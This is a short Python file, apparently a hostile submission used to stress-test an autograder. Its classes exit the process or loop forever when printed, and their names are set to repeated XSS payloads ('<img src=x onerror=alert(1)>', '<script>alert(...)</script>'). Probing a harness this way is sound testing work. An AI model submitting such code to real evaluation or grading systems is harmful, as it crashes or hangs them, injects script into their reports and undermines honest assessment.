# attack: returns objects, and raises errors, whose texts exit, never end or are markup
# points: double=0 total=0
# %% double
class Angry:
    def __repr__(self): raise SystemExit
    def __str__(self):
        while True:
            pass
    __format__ = __reduce__ = __reduce_ex__ = __sizeof__ = __dir__ = __repr__
Angry.__name__ = Angry.__qualname__ = "<img src=x onerror=alert(1)>" * 1000
def double(x): return Angry()
# %% total
class Failure(Exception):
    def __str__(self): raise SystemExit("gone")
    __repr__ = __str__
Failure.__name__ = "<script>alert('in the name')</script>" * 100
def total(x): raise Failure
